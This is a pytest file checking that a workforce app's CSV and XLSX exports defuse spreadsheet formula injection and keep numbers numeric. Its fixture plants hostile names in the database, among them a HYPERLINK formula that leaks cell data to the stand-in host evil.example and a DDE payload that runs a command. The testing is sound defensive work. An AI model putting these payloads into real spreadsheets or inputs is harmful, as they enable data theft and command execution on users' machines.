"""Exports are not attack vectors: a cell a spreadsheet would run is written as text, in CSV and in XLSX, from
the command line and from the service the screens use; numbers stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, String, cast, update

from progression.db import make_engine
from progression.models import Role, Team, Worker
from progression.safe_text import spreadsheet_cell
from progression.services.tables_out import write_tables
from tests.utils.cli import run_cli

TODAY = "2026-11-24"
FORMULAS = {
    "E1014": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "E1015": "=cmd|' /C calc'!A0",
    "E1016": "+SUM(1,2)",
    "E1017": "-2+3",
    "E1018": "@SUM(A1:A2)",
    "E1019": "\tTabbed",
    "E1020": "\rReturned",
}
TEAM = "=1+1 team"
ROLE_TITLE = "@role"


@pytest.fixture
def formula_engine(demo_url: str) -> Iterator[Engine]:
    """The demo council with names, a team name and a role title that a spreadsheet would run (old data)."""
    engine = make_engine(demo_url)
    worker, team, role = (m.__table__ for m in (Worker, Team, Role))  # type: ignore[attr-defined]
    with engine.begin() as connection:  # straight SQL: old data, from before the services refused it
        for staff_id, name in FORMULAS.items():
            connection.execute(update(worker).where(worker.c.staff_id == staff_id).values(name=name))
        connection.execute(update(team).values(name=TEAM + " " + cast(team.c.id, String)))
        connection.execute(update(role).where(role.c.key == "social-worker-1").values(title=ROLE_TITLE))
    yield engine
    engine.dispose()


def url(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def is_formula_text(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("command", [("team",), ("report", "workforce")])
def test_csv_cells_are_defused_and_numbers_stay_numbers(
    formula_engine: Engine, tmp_path: Path, command: tuple[str, ...]
) -> None:
    out = tmp_path / "out.csv"
    result = run_cli("--db", url(formula_engine), "--today", TODAY, "--as", "E1001", *command, "--output", str(out))
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if is_formula_text(cell)]
    if command == ("team",):
        header = rows[0]
        by_id = {row[header.index("staff_id")]: row for row in rows[1:]}
        for staff_id, name in FORMULAS.items():
            if staff_id in by_id:
                assert by_id[staff_id][header.index("name")] == spreadsheet_cell(name)
        assert "'" + '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' in cells
        assert any(cell.startswith(f"'{TEAM}") for cell in cells)
        assert by_id["E1014"][header.index("months_in_role")].isdigit()
    else:
        assert f"'{ROLE_TITLE}" in cells


@pytest.mark.parametrize("command", [("team",), ("report", "workforce")])
def test_xlsx_cells_are_strings_never_formulas(
    formula_engine: Engine, tmp_path: Path, command: tuple[str, ...]
) -> None:
    out = tmp_path / "out.xlsx"
    result = run_cli("--db", url(formula_engine), "--today", TODAY, "--as", "E1001", *command, "--output", str(out))
    assert result.exit_code == 0, result.stderr
    book = load_workbook(out)
    texts: list[str] = []
    numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_text(cell.value):
                        assert cell.quotePrefix, cell.coordinate
                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    numbers += 1
    assert numbers > 0
    if command == ("team",):
        assert FORMULAS["E1014"] in texts
    else:
        assert ROLE_TITLE in texts


def test_write_tables_with_every_kind_of_value(tmp_path: Path) -> None:
    """The function the screens' export uses: text is defused, control characters shown, numbers kept."""
    row = ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "a\x1bb", 3, -4.5, None, ["=a", "b"]]
    sheets = [("Sheet", [f"c{i}" for i in range(len(row))], [row])]
    write_tables(tmp_path / "t.csv", sheets)
    written = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8-sig", newline="")))[1]
    assert written == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'␍x", "plain", "a␛b", "3", "-4.5", "", "'=a; b"]
    write_tables(tmp_path / "t.xlsx", sheets)
    cells = list(load_workbook(tmp_path / "t.xlsx").active.iter_rows(min_row=2, values_only=False))[0]  # type: ignore[union-attr]
    assert [c.value for c in cells] == ["=1+1", "+1", "-1", "@x", "\tx", "␍x", "plain", "a␛b", 3, -4.5, None, "=a; b"]
    assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n", "n", "s"]
